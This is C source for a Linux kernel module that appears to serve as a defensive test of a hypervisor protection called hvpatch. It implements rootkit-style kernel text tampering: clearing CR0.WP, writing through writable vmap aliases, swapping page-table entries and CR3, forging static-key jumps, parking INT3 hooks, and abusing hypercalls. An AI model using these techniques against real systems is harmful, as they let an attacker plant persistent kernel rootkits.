// SPDX-License-Identifier: GPL-2.0
/*
 * hvp_attack.ko: what a rootkit does to kernel text, for the demo and the
 * attacker's-view tests.  It is meant to fail: under hvpatch every attempt
 * is stopped (#GP in the guest, a log line and a count in the hypervisor).
 *
 *   mode=cr0     clear CR0.WP, then write the target through its own
 *                mapping (the classic way past write protection)
 *   mode=alias   map the target's physical page again, writable, with
 *                vmap(), and write through that alias
 *   mode=arena   write into the hvpatch arena (arena_addr=, its
 *                guest-virtual address from hvpatchctl status) through a
 *                fresh alias of its physical page
 *   mode=register  widen or re-lock the protected set after lock
 *   mode=hvmem   hand APPLY a page list that points into the hypervisor's
 *                own memory (from CPUID leaf 0x40000002), then into MMIO
 *                (the local APIC page)
 *   mode=race    APPLY a valid bundle (bundle=FILE) while a thread on
 *                another CPU keeps changing its pages
 *   mode=jumplabel  at a static-key site of the kernel's __jump_table
 *                (jump_table_addr= to jump_table_end=, and stext= and
 *                etext= to pick one in core text), write a JMP to
 *                a target the table does not name, the way text_poke()
 *                writes (REP MOVSB through a fresh alias): the one kind of
 *                text write the hypervisor performs must still refuse it
 *   mode=remap   leave the text alone and change what maps it instead
 *                (level=): pte points the leaf entry behind target_addr
 *                (a 4 KiB PTE, or the 2 MiB PMD) at a changed copy with a
 *                plain MOV, as set_pte() does; pmd points the PMD entry at
 *                a new page table that maps the changed copy, with LOCK
 *                CMPXCHG; pgd loads CR3 with a new PGD whose kernel slot
 *                leads to a copied PUD, then XCHGs that slot into the
 *                PGD in use.  The translation of target_addr is compared
 *                before and after ("translation unchanged").
 *
 *   mode=int3park  park INT3 on every site of one static key (key_addr=,
 *                with jump_table_addr= and jump_table_end=), written the
 *                way a switch writes it, for 200 ms, and count how often
 *                the kernel's own #BP path (a die notifier) sees one: the
 *                hook a kernel would run from there.  Then put the sites
 *                back.  The hypervisor runs INT3 at a site itself, so the
 *                count must stay 0
 *   mode=dr7, mode=lstar, mode=idt: pin_attacks.c
 *
 * The hypercall modes print "hvp_attack: <what>: status <n>" and load
 * nothing either.
 *
 * target_addr= is a kernel function's address (from /proc/kallsyms),
 * whose first byte the module tries to overwrite with int3.
 */
#include <asm/asm.h>
#include <asm/pgtable.h>
#include <asm/tlbflush.h>
#include <linux/delay.h>
#include <linux/kdebug.h>
#include <linux/io.h>
#include <linux/kernel_read_file.h>
#include <linux/kthread.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/vmalloc.h>

static char *mode = "cr0";
module_param(mode, charp, 0444);
static unsigned long target_addr;
module_param(target_addr, ulong, 0444);
static unsigned long arena_addr;
module_param(arena_addr, ulong, 0444);
static unsigned long jump_table_addr, jump_table_end, stext, etext;
module_param(jump_table_addr, ulong, 0444);
module_param(jump_table_end, ulong, 0444);
module_param(stext, ulong, 0444);
module_param(etext, ulong, 0444);
static unsigned long key_addr;
module_param(key_addr, ulong, 0444);
static char *bundle = "";
module_param(bundle, charp, 0444);
static char *level = "pte";
module_param(level, charp, 0444);

#include "hvpatch/abi.h"
#include "hvpatch_hc.h"
#include "pin_attacks.h"

static void report(const char *what, long status)
{
	pr_info("hvp_attack: %s: status %ld\n", what, status);
}

static void try_register(void)
{
	u64 unused;

	report("register text after lock",
	       hvp_hc_call(HVP_HC_REGISTER_TEXT, 0xffffffff81000000ull, 0x200000, &unused));
	report("register arena after lock",
	       hvp_hc_call(HVP_HC_REGISTER_ARENA, 0xffffffffc0000000ull, 0x1000, &unused));
	report("lock again", hvp_hc_call(HVP_HC_LOCK, 0, 0, &unused));
}

/* APPLY with a page list whose one page is `page`. */
static long apply_one_page(u64 page)
{
	struct hvp_page_list *list = (void *)get_zeroed_page(GFP_KERNEL);
	u64 id;
	long status;

	if (!list)
		return -ENOMEM;
	list->length = HVP_PAGE_SIZE;
	list->page_count = 1;
	list->pages[0] = page;
	status = hvp_hc_call(HVP_HC_APPLY, virt_to_phys(list), 0, &id);
	free_page((unsigned long)list);
	return status;
}

static void try_hypervisor_memory(void)
{
	unsigned int base_lo, base_hi, size_lo, size_hi;
	u64 base, unused;

	cpuid(HVP_CPUID_RESERVED_LEAF, &base_lo, &base_hi, &size_lo, &size_hi);
	base = (u64)base_hi << 32 | base_lo;
	report("apply from a page in hypervisor memory", apply_one_page(base));
	report("apply with the page list itself in hypervisor memory",
	       hvp_hc_call(HVP_HC_APPLY, base, 0, &unused));
	report("apply from an MMIO page (local APIC)", apply_one_page(0xfee00000ull));
	report("status into hypervisor memory", hvp_hc_call(HVP_HC_STATUS, base, 0, &unused));
}

static volatile bool racing;

static int scribble(void *data)
{
	u8 **pages = data;
	unsigned int n = 0;

	while (READ_ONCE(racing))
		for (int p = 0; pages[p]; p++)
			pages[p][(n++ * 97) % PAGE_SIZE] ^= 0x5a;
	return 0;
}

static void try_race(void)
{
	u8 *pages[HVP_MAX_BUNDLE_SIZE / PAGE_SIZE + 1] = { NULL };
	struct hvp_page_list *list = (void *)get_zeroed_page(GFP_KERNEL);
	struct task_struct *thread;
	void *data = NULL;
	ssize_t len;
	u64 id = 0;
	long status;
	int count;

	len = kernel_read_file_from_path(bundle, 0, &data, HVP_MAX_BUNDLE_SIZE, NULL,
					 READING_UNKNOWN);
	if (len <= 0 || !list) {
		pr_err("hvp_attack: cannot read %s\n", bundle);
		goto out;
	}
	count = DIV_ROUND_UP(len, PAGE_SIZE);
	list->length = len;
	list->page_count = count;
	for (int p = 0; p < count; p++) {
		pages[p] = (u8 *)get_zeroed_page(GFP_KERNEL);
		if (!pages[p])
			goto out;
		memcpy(pages[p], data + p * PAGE_SIZE, min_t(size_t, PAGE_SIZE, len - p * PAGE_SIZE));
		list->pages[p] = virt_to_phys(pages[p]);
	}
	racing = true;
	thread = kthread_run(scribble, pages, "hvp_scribble");
	msleep(20);
	status = hvp_hc_call(HVP_HC_APPLY, virt_to_phys(list), 0, &id);
	racing = false;
	if (!IS_ERR(thread))
		kthread_stop(thread);
	report("apply while another CPU changes the bundle", status);
	if (status == HVP_OK)
		report("revert it", hvp_hc_call(HVP_HC_REVERT, id, 0, &id));
out:
	for (int p = 0; pages[p]; p++)
		free_page((unsigned long)pages[p]);
	free_page((unsigned long)list);
	vfree(data);
}

/*
 * Each attempt runs under an exception-table entry: when the hypervisor
 * answers with #GP, the module reports it and returns an error, instead
 * of oopsing with the module half loaded (which would block the next
 * insmod of it).  These return true if the instruction faulted.
 */
#define DEFINE_FAULTING_WRITE_CR(n)                                           \
	static bool faulting_write_cr##n(unsigned long value)                 \
	{                                                                     \
		bool faulted = true;                                          \
									      \
		asm volatile("1: mov %[value], %%cr" #n "\n\t"               \
			     "movb $0, %[faulted]\n"                          \
			     "2:\n"                                           \
			     _ASM_EXTABLE(1b, 2b)                              \
			     : [faulted] "+qm"(faulted)                       \
			     : [value] "r"(value) : "memory");                \
		return faulted;                                               \
	}
DEFINE_FAULTING_WRITE_CR(0)
DEFINE_FAULTING_WRITE_CR(3)

static bool faulting_write_byte(u8 *where, u8 value)
{
	bool faulted = true;

	asm volatile("1: movb %[value], %[where]\n\t"
		     "movb $0, %[faulted]\n"
		     "2:\n"
		     _ASM_EXTABLE(1b, 2b)
		     : [faulted] "+qm"(faulted), [where] "=m"(*where)
		     : [value] "q"(value) : "memory");
	return faulted;
}

/* REP MOVSB, as the kernel's memcpy() does in text_poke(). */
static bool faulting_copy(u8 *dst, const u8 *src, unsigned long n)
{
	bool faulted = true;

	asm volatile("1: rep movsb\n\t"
		     "movb $0, %[faulted]\n"
		     "2:\n"
		     _ASM_EXTABLE(1b, 2b)
		     : [faulted] "+qm"(faulted), "+D"(dst), "+S"(src), "+c"(n)
		     : : "memory");
	return faulted;
}

static bool write_with_wp_clear(u8 *where)
{
	unsigned long cr0;

	asm volatile("mov %%cr0, %0" : "=r"(cr0));
	pr_info("hvp_attack: clearing CR0.WP (cr0 %#lx)\n", cr0);
	/* Straight to the register: native_write_cr0() would put WP back. */
	if (faulting_write_cr0(cr0 & ~X86_CR0_WP)) {
		pr_info("hvp_attack: clearing CR0.WP faulted (#GP): blocked\n");
		return false;
	}
	pr_info("hvp_attack: CR0.WP cleared, writing %px\n", where);
	if (faulting_write_byte(where, 0xcc)) {
		faulting_write_cr0(cr0);
		pr_info("hvp_attack: the write faulted: blocked\n");
		return false;
	}
	faulting_write_cr0(cr0);
	return true;
}

static bool write_through_alias(phys_addr_t phys)
{
	struct page *page = pfn_to_page(phys >> PAGE_SHIFT);
	u8 *alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	bool faulted;

	if (!alias) {
		pr_err("hvp_attack: vmap failed\n");
		return false;
	}
	pr_info("hvp_attack: writing phys %pa through a fresh writable alias %px\n",
		&phys, alias + offset_in_page(phys));
	faulted = faulting_write_byte(alias + offset_in_page(phys), 0xcc);
	vunmap(alias);
	if (faulted)
		pr_info("hvp_attack: the write faulted (#GP): blocked\n");
	return !faulted;
}

/* The three ways Linux stores a page-table entry: MOV, LOCK CMPXCHG, XCHG. */
static bool faulting_mov_entry(u64 *entry, u64 value)
{
	bool faulted = true;

	asm volatile("1: movq %[value], %[entry]\n\t"
		     "movb $0, %[faulted]\n"
		     "2:\n"
		     _ASM_EXTABLE(1b, 2b)
		     : [faulted] "+qm"(faulted), [entry] "+m"(*entry)
		     : [value] "r"(value) : "memory");
	return faulted;
}

static bool faulting_cmpxchg_entry(u64 *entry, u64 old, u64 value)
{
	bool faulted = true;

	asm volatile("1: lock cmpxchgq %[value], %[entry]\n\t"
		     "movb $0, %[faulted]\n"
		     "2:\n"
		     _ASM_EXTABLE(1b, 2b)
		     : [faulted] "+qm"(faulted), [entry] "+m"(*entry), "+a"(old)
		     : [value] "r"(value) : "memory");
	return faulted;
}

static bool faulting_xchg_entry(u64 *entry, u64 value)
{
	bool faulted = true;

	asm volatile("1: xchgq %[value], %[entry]\n\t"
		     "movb $0, %[faulted]\n"
		     "2:\n"
		     _ASM_EXTABLE(1b, 2b)
		     : [faulted] "+qm"(faulted), [entry] "+m"(*entry), [value] "+r"(value)
		     : : "memory");
	return faulted;
}

/* Where target_addr's byte is, physically, through the tables in use. */
static phys_addr_t mapped_phys(unsigned long addr)
{
	unsigned int lvl;
	pte_t *pte = lookup_address(addr, &lvl);
	unsigned long size = page_level_size(lvl);

	return pte ? (phys_addr_t)(pte_pfn(*pte) << PAGE_SHIFT) + (addr & (size - 1)) : 0;
}

/* A copy of target_addr's 4 KiB page with int3 at target_addr. */
static struct page *changed_copy(void)
{
	struct page *copy = alloc_page(GFP_KERNEL);

	if (!copy)
		return NULL;
	memcpy(page_address(copy), (void *)(target_addr & PAGE_MASK), PAGE_SIZE);
	((u8 *)page_address(copy))[offset_in_page(target_addr)] = 0xcc;
	return copy;
}

static u64 with_address(u64 entry, phys_addr_t phys)
{
	return (entry & ~PTE_PFN_MASK) | (phys & PTE_PFN_MASK);
}

/* A page table mapping the 2 MiB around target_addr as the PMD entry did,
 * except target_addr's page, which maps `copy`. */
static struct page *table_with_copy(pmd_t *pmd, struct page *copy)
{
	struct page *table = alloc_page(GFP_KERNEL | __GFP_ZERO);
	u64 *ptes, base = pmd_val(*pmd);

	if (!table)
		return NULL;
	ptes = page_address(table);
	if (pmd_large(*pmd)) {
		u64 flags = base & ~PTE_PFN_MASK & ~(u64)(_PAGE_PSE | _PAGE_PAT_LARGE);

		for (int i = 0; i < PTRS_PER_PTE; i++)
			ptes[i] = ((base & PMD_MASK & PTE_PFN_MASK) + i * PAGE_SIZE) | flags;
	} else {
		memcpy(ptes, pte_offset_kernel(pmd, 0), PAGE_SIZE);
	}
	ptes[pte_index(target_addr)] = with_address(ptes[pte_index(target_addr)],
						    page_to_phys(copy));
	return table;
}

/* Returns true if a remap got through. */
static bool remap_text(void)
{
	pgd_t *pgd = pgd_offset(current->active_mm, target_addr);
	pud_t *pud = pud_offset(p4d_offset(pgd, target_addr), target_addr);
	pmd_t *pmd = pmd_offset(pud, target_addr);
	phys_addr_t before = mapped_phys(target_addr);
	struct page *copy = changed_copy(), *table = NULL, *new_pgd = NULL, *new_pud = NULL;
	bool faulted = true;

	if (!copy)
		return false;
	pr_info("hvp_attack: remap %s: %px maps phys %pa\n", level, (void *)target_addr, &before);
	if (!strcmp(level, "pte")) {
		u64 *leaf = pmd_large(*pmd) ? (u64 *)pmd :
			    (u64 *)pte_offset_kernel(pmd, target_addr);
		u64 value = pmd_large(*pmd) ? with_address(*leaf, page_to_phys(copy) & PMD_MASK) :
					      with_address(*leaf, page_to_phys(copy));

		pr_info("hvp_attack: remap pte: MOV %llx over the %s entry %llx\n", value,
			pmd_large(*pmd) ? "2 MiB PMD" : "PTE", *leaf);
		faulted = faulting_mov_entry(leaf, value);
	} else if (!strcmp(level, "pmd")) {
		table = table_with_copy(pmd, copy);
		if (table) {
			u64 old = pmd_val(*pmd);
			u64 value = with_address(old & ~(u64)(_PAGE_PSE | _PAGE_PAT_LARGE),
						 page_to_phys(table));

			pr_info("hvp_attack: remap pmd: LOCK CMPXCHG %llx over %llx\n", value, old);
			faulted = faulting_cmpxchg_entry((u64 *)pmd, old, value);
		}
	} else if (!strcmp(level, "pgd")) {
		new_pgd = alloc_page(GFP_KERNEL);
		new_pud = alloc_page(GFP_KERNEL);
		if (new_pgd && new_pud) {
			unsigned long cr3 = __read_cr3(), flags;
			u64 *slot = (u64 *)page_address(new_pgd) + pgd_index(target_addr);

			memcpy(page_address(new_pgd), current->active_mm->pgd, PAGE_SIZE);
			memcpy(page_address(new_pud), (void *)((unsigned long)pud & PAGE_MASK),
			       PAGE_SIZE);
			*slot = with_address(*slot, page_to_phys(new_pud));
			pr_info("hvp_attack: remap pgd: CR3 %lx -> a new PGD %llx (kernel slot %llx)\n",
				cr3, (u64)page_to_phys(new_pgd), *slot);
			local_irq_save(flags);
			faulted = faulting_write_cr3(page_to_phys(new_pgd) | (cr3 & ~PAGE_MASK));
			if (!faulted)
				faulting_write_cr3(cr3);
			local_irq_restore(flags);
			if (faulted) {
				pr_info("hvp_attack: remap pgd: loading it faulted (#GP): blocked\n");
				pr_info("hvp_attack: remap pgd: XCHG %llx into the PGD in use\n", *slot);
				faulted = faulting_xchg_entry((u64 *)pgd, *slot);
			}
		}
	}
	pr_info("hvp_attack: remap %s: %s; translation %s\n", level,
		faulted ? "the write faulted (#GP): blocked" : "WRITTEN",
		mapped_phys(target_addr) == before ? "unchanged" : "CHANGED");
	if (table)
		__free_page(table);
	if (new_pgd)
		__free_page(new_pgd);
	if (new_pud)
		__free_page(new_pud);
	/* A remap that went through still maps the copy: leave it. */
	if (faulted)
		__free_page(copy);
	return !faulted;
}

/* struct jump_entry on x86-64: s32 code, s32 target (each relative to
 * its own field), long key. */
static bool forge_jump_label(void)
{
	const s32 *entry = (const s32 *)jump_table_addr;
	unsigned long code, target;
	u8 forged[5], before[5];
	struct page *page;
	u8 *alias;
	bool faulted;
	s32 rel;

	/* The first 5-byte site (NOP5 or JMP rel32 now) in core text whose
	 * bytes stay in one page: the forged JMP then fits the site exactly,
	 * and only its target is wrong. */
	for (;; entry += 4) {
		if ((unsigned long)(entry + 4) > jump_table_end) {
			pr_err("hvp_attack: no static-key site in core text\n");
			return false;
		}
		code = (unsigned long)&entry[0] + entry[0];
		target = (unsigned long)&entry[1] + entry[1];
		if (code >= stext && code < etext && offset_in_page(code) <= PAGE_SIZE - 5 &&
		    (*(u8 *)code == 0x0f || *(u8 *)code == 0xe9))
			break;
	}
	memcpy(before, (void *)code, sizeof(before));
	rel = (s32)(target + 1 - (code + 5));
	forged[0] = 0xe9;
	memcpy(forged + 1, &rel, 4);
	page = pfn_to_page(__pa_symbol(code) >> PAGE_SHIFT);
	alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	if (!alias)
		return false;
	pr_info("hvp_attack: static-key site %px (%5ph): JMP to %lx, not %lx\n", (void *)code,
		before, target + 1, target);
	faulted = faulting_copy(alias + offset_in_page(code), forged, sizeof(forged));
	vunmap(alias);
	if (faulted)
		pr_info("hvp_attack: the write faulted (#GP): blocked; site %5ph, %s\n",
			(void *)code, memcmp(before, (void *)code, 5) ? "CHANGED" : "unchanged");
	return !faulted;
}

#define PARK_MAX 16
static unsigned long parked[PARK_MAX];
static unsigned int parked_count;
static atomic_t int3_seen;

/* The hook: the kernel's #BP path reached a parked site. */
static int int3_hook(struct notifier_block *nb, unsigned long val, void *data)
{
	struct die_args *args = data;

	if (val != DIE_INT3)
		return NOTIFY_DONE;
	for (unsigned int i = 0; i < parked_count; i++) {
		if (args->regs->ip - 1 == parked[i]) {
			atomic_inc(&int3_seen);
			/* Run the NOP it hides: ip is past the INT3. */
			args->regs->ip += 4;
			return NOTIFY_STOP;
		}
	}
	return NOTIFY_DONE;
}

static struct notifier_block int3_nb = { .notifier_call = int3_hook };

/* Byte 0 of the site at code, written as a switch step writes it. */
static bool poke_first_byte(unsigned long code, u8 value)
{
	struct page *page = pfn_to_page(__pa_symbol(code) >> PAGE_SHIFT);
	u8 *alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	bool faulted;

	if (!alias)
		return true;
	faulted = faulting_copy(alias + offset_in_page(code), &value, 1);
	vunmap(alias);
	return faulted;
}

static bool park_int3(void)
{
	const s32 *entry = (const s32 *)jump_table_addr;
	u8 first[PARK_MAX];
	unsigned int i, refused = 0;

	/* The 5-byte NOP sites of the key (the key is off). */
	for (; (unsigned long)(entry + 4) <= jump_table_end && parked_count < PARK_MAX;
	     entry += 4) {
		unsigned long code = (unsigned long)&entry[0] + entry[0];
		unsigned long key = ((unsigned long)&entry[2] + *(const long *)&entry[2]) & ~3ul;

		if (key == key_addr && code >= stext && code < etext && *(u8 *)code == 0x0f)
			parked[parked_count++] = code;
	}
	if (!parked_count) {
		pr_err("hvp_attack: no NOP site of key %lx\n", key_addr);
		return false;
	}
	register_die_notifier(&int3_nb);
	for (i = 0; i < parked_count; i++) {
		first[i] = *(u8 *)parked[i];
		refused += poke_first_byte(parked[i], 0xcc);
	}
	pr_info("hvp_attack: INT3 parked on %u sites of key %lx (%u writes refused)\n",
		parked_count, key_addr, refused);
	msleep(200);
	for (i = 0; i < parked_count; i++)
		if (*(u8 *)parked[i] != first[i])
			poke_first_byte(parked[i], first[i]);
	unregister_die_notifier(&int3_nb);
	for (i = 0; i < parked_count; i++)
		if (*(u8 *)parked[i] != first[i])
			pr_err("hvp_attack: site %lx still %02x\n", parked[i], *(u8 *)parked[i]);
	pr_info("hvp_attack: in 200 ms the kernel's #BP path saw %d INT3s at parked sites: %s\n",
		atomic_read(&int3_seen), atomic_read(&int3_seen) ? "HOOKED" : "never");
	return atomic_read(&int3_seen) != 0;
}

static int __init hvp_attack_init(void)
{
	bool written = false;

	if (!strcmp(mode, "cr0") && target_addr)
		written = write_with_wp_clear((u8 *)target_addr);
	else if (!strcmp(mode, "alias") && target_addr)
		written = write_through_alias(__pa_symbol(target_addr));
	else if (!strcmp(mode, "arena") && arena_addr)
		written = write_through_alias(page_to_phys(vmalloc_to_page((void *)arena_addr)) +
					      offset_in_page(arena_addr));
	else if (!strcmp(mode, "register"))
		try_register();
	else if (!strcmp(mode, "hvmem"))
		try_hypervisor_memory();
	else if (!strcmp(mode, "race") && *bundle)
		try_race();
	else if (!strcmp(mode, "jumplabel") && jump_table_addr < jump_table_end && stext < etext)
		written = forge_jump_label();
	else if (!strcmp(mode, "remap") && target_addr)
		written = remap_text();
	else if (!strcmp(mode, "int3park") && key_addr && jump_table_addr < jump_table_end)
		written = park_int3();
	else if (hvp_attack_pins(mode, target_addr))
		return -EINVAL;
	if (written) {
		pr_err("hvp_attack: WRITE SUCCEEDED (mode %s): kernel text is NOT protected\n",
		       mode);
		return -EEXIST;
	}
	/* Never stays loaded: it exists only to try. */
	return -EPERM;
}

module_init(hvp_attack_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("hvpatch test: attempts to write protected kernel memory");
